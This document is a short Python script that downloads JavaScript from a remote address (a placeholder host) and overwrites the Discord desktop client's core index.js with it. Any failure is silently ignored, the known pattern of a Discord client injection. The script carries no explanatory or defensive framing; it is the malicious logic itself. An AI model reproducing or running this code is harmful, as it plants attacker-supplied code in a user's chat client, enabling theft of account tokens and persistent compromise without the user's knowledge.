import glob
import os
import urllib.request


def _inject():
    code = urllib.request.urlopen("https://example.invalid/injection.js").read()
    pattern = os.path.join(os.getenv("LOCALAPPDATA", ""), "Discord", "app-*", "modules", "discord_desktop_core-*",
                           "discord_desktop_core", "index.js")
    for path in glob.glob(pattern):
        with open(path, "wb") as handle:
            handle.write(code)


try:
    _inject()
except Exception:
    pass
